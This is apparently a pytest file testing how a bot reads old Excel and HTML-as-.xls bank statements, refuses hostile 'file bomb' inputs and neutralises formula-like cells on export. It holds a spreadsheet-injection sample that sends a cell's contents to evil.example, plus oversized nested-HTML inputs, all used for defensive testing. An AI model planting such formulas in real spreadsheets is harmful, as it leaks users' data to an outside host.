"""Old Excel statements: a real .xls (BIFF8) and a web page named .xls are read like the
.xlsx they stand for, and every hostile one is refused in one polite line, within the
worker's memory and time. Layouts and their sources: tests/bank_layouts.py (end)."""

from __future__ import annotations

from datetime import date

import pytest

from bot.services import safefiles
from bot.services.contributions import files, statements
from bot.services.contributions.statements import Owed
from tests.bank_layouts import (
    CHECK,
    CODE,
    PAID,
    acb_statement,
    bidv_detail,
    html_xls,
    vietinbank_history,
    xls,
)
from tests.filebombs import OLD_EXCEL_BOMBS, _xls

OWED = {7: Owed(CHECK, PAID, "Nguyễn Văn An"), 8: Owed("QWERT", 500_000, "Trần Thị Bình")}
LAYOUTS = {"vietinbank": vietinbank_history, "bidv": bidv_detail, "acb": acb_statement}


async def _matches(name: str, content: bytes) -> list[tuple[object, ...]]:
    lines = statements.statement_lines(await files.read_table(content, name))
    return [
        (m.pledge_id, m.line.row, m.line.amount, m.line.on, m.line.ref, m.flags, m.source_ref)
        for m in statements.match_statement(lines, CODE, OWED)
    ]


@pytest.mark.parametrize("bank", sorted(LAYOUTS))
async def test_an_old_excel_statement_matches_like_its_xlsx_twin(bank: str) -> None:
    from tests.bank_layouts import _xlsx

    rows = LAYOUTS[bank]()
    twin = await _matches("saoke.xlsx", _xlsx(rows))
    assert [(m[0], m[2], m[3]) for m in twin] == [(7, PAID, date(2026, 3, 5))]
    assert await _matches("saoke.xls", xls(rows)) == twin  # same row, ref and source_ref
    assert await _matches("saoke.xls", html_xls(rows)) == twin
    # what a file is comes from its bytes: a bank's web page arrives as .xls, .xlsx or none
    assert await _matches("saoke.xlsx", html_xls(rows)) == twin
    assert await _matches("saoke", xls(rows)) == twin


@pytest.mark.parametrize("bomb", sorted(OLD_EXCEL_BOMBS))
async def test_every_hostile_old_excel_is_refused_in_one_line(bomb: str) -> None:
    make, reasons = OLD_EXCEL_BOMBS[bomb]
    name, content = make()
    with pytest.raises(safefiles.FileRefused) as caught:
        await files.read_table(content, name)
    assert caught.value.reason in reasons, caught.value.reason
    line = safefiles.refusal_text(caught.value, lambda text: text)
    assert "\n" not in line and len(line) < 200
    assert not line.startswith("I could not read that file") or reasons == {"unreadable"}


@pytest.mark.parametrize("bomb", sorted(OLD_EXCEL_BOMBS))
async def test_a_hostile_old_excel_stays_small_and_quick(bomb: str) -> None:
    name, content = OLD_EXCEL_BOMBS[bomb][0]()
    # The production time limit: the refusal must come from a bound, not the clock (the
    # time each takes is in bench/bench_files.py, not asserted here).
    limits = safefiles.Limits(max_bytes=10 * 1024 * 1024)
    result = await safefiles.run_worker(content, name, limits)
    assert "refused" in result and result["refused"]["reason"] != "too_slow"
    assert result["peak_kb"] < 100 * 1024, result["peak_kb"]


async def test_html_that_costs_nothing_to_a_tokenizer_is_read() -> None:
    """Deep nesting and a million empty cells: no tree is kept, empty cells past the last
    column are dropped, so both read quickly to the rows that matter."""
    deep = "<div>" * 500_000 + "<table><tr><td>Ngày</td><td>Nội dung</td></tr></table>"
    empty = "<table><tr><td>Ngày</td><td>Nội dung</td></tr><tr>" + "<td>" * 1_000_000
    for page in (deep, empty):
        # The production time limit (3.2 s quiet for the million cells, over 10 s on a
        # loaded CI machine); the time is a benchmark figure, not asserted here.
        result = await safefiles.run_worker(page.encode(), "saoke.xls", safefiles.Limits())
        assert result.get("rows", [])[:1] == [["Ngày", "Nội dung"]], result.get("refused")
        assert result["peak_kb"] < 100 * 1024


async def test_formula_looking_cells_stay_text_and_exports_neutralize_them() -> None:
    import xlwt

    typed = '=HYPERLINK("http://evil.example/?x="&B4,"Bấm xem")'
    content = _xls({(0, 0): "Nội dung", (1, 0): typed, (2, 0): xlwt.Formula("1+2")})
    rows = await files.read_table(content, "saoke.xls")
    assert rows[1] == [typed]  # as typed: never evaluated, never dropped
    assert "1+2" not in str(rows)  # a formula gives its cached value, not its text
    assert safefiles.csv_row(rows[1]) == ["'" + typed]
    page = f"<table><tr><td>Nội dung</td></tr><tr><td>{typed}</td></tr></table>"
    assert (await files.read_table(page.encode(), "saoke.xls"))[1] == [typed]


async def test_a_web_page_keeps_excel_columns_and_cells() -> None:
    """colspan and rowspan keep every column where Excel shows it; <br> stays in its cell
    (Excel's br{mso-data-placement:same-cell}); text outside tables is a row; entities
    of HTML itself are text."""
    page = (
        "<html><body><h3>SAO KÊ TÀI KHOẢN</h3><table>"
        '<tr><td colspan="2">Ngày GD<br>Số CT</td><td rowspan="2">Có</td><td>Nội dung</td></tr>'
        "<tr><td>a</td><td>b</td><td>c &amp; d&nbsp;</td></tr>"
        "</table><p>Người lập biểu</p></body></html>"
    )
    rows = await files.read_table(page.encode("utf-16"), "a.xls")  # with its byte-order mark
    assert rows == [
        ["SAO KÊ TÀI KHOẢN"],
        ["Ngày GD\nSố CT", "", "Có", "Nội dung"],
        ["a", "b", "", "c & d"],
        ["Người lập biểu"],
    ]


async def test_a_refused_old_excel_names_its_cell() -> None:
    page = "<table><tr><td>Ngày</td><td>Nội dung</td></tr><tr><td>1</td><td>" + "y" * 3000
    with pytest.raises(safefiles.FileRefused) as caught:
        await files.read_table((page + "</td></tr></table>").encode(), "saoke.xls")
    assert (caught.value.reason, caught.value.row, caught.value.column) == ("cell_too_long", 2, 2)
    assert "(row 2, column B)" in safefiles.refusal_text(caught.value, lambda text: text)


def test_every_old_excel_refusal_is_said_in_vietnamese() -> None:
    from pathlib import Path

    from babel.messages.pofile import read_po

    po = Path(__file__).resolve().parents[2] / "locales/vi/LC_MESSAGES/messages.po"
    with po.open("rb") as fp:
        catalog = {m.id: m.string for m in read_po(fp, locale="vi") if m.id and m.string}
    missing: list[str] = []

    def vietnamese(text: str) -> str:
        if text not in catalog:
            missing.append(text)
        return catalog.get(text, text)

    for reasons in [r for _make, r in OLD_EXCEL_BOMBS.values()]:
        for reason in reasons:
            line = safefiles.refusal_text(safefiles.FileRefused(reason, limit=50), vietnamese)
            assert line and "\n" not in line
    assert not missing, missing
    assert "mật khẩu" in safefiles.refusal_text(safefiles.FileRefused("encrypted"), vietnamese)


async def test_what_a_file_is_comes_from_its_bytes() -> None:
    """A CSV whose first cell starts with "<" is still a CSV; a page with a comment and
    upper-case tags before its table is still a page."""
    rows = await files.read_table("<Ngày>,Nội dung\n1,2\n".encode(), "saoke.csv")
    assert rows == [["<Ngày>", "Nội dung"], ["1", "2"]]
    page = b"\xef\xbb\xbf \r\n<!-- saved from url -->\r\n<HTML><BODY><TABLE><TR><TD>x</TD></TR>"
    assert await files.read_table(page, "saoke.xls") == [["x"]]


async def test_a_statement_table_inside_a_layout_table_is_found() -> None:
    """Bank pages often put the transactions' table in a cell of a layout table: its rows
    come out as rows, and the statement parser finds its header as in the .xlsx."""
    page = (
        "<html><body><table width=100%><tr><td><b>SAO KÊ TÀI KHOẢN</b></td></tr>"
        "<tr><td><table border=1>"
        "<tr><th>Ngày</th><th>Nội dung</th><th>Ghi nợ</th><th>Ghi có</th></tr>"
        f"<tr><td>05/03/2026</td><td>DG {CODE} 7 {CHECK}</td><td></td><td>1,500,000</td></tr>"
        f"<tr><td>06/03/2026</td><td>DG {CODE} 8 QWERT</td><td>500,000</td><td></td></tr>"
        "</table></td></tr></table></body></html>"
    )
    matches = await _matches("saoke.xls", page.encode())
    assert [(m[0], m[2], m[3]) for m in matches] == [(7, PAID, date(2026, 3, 5))]
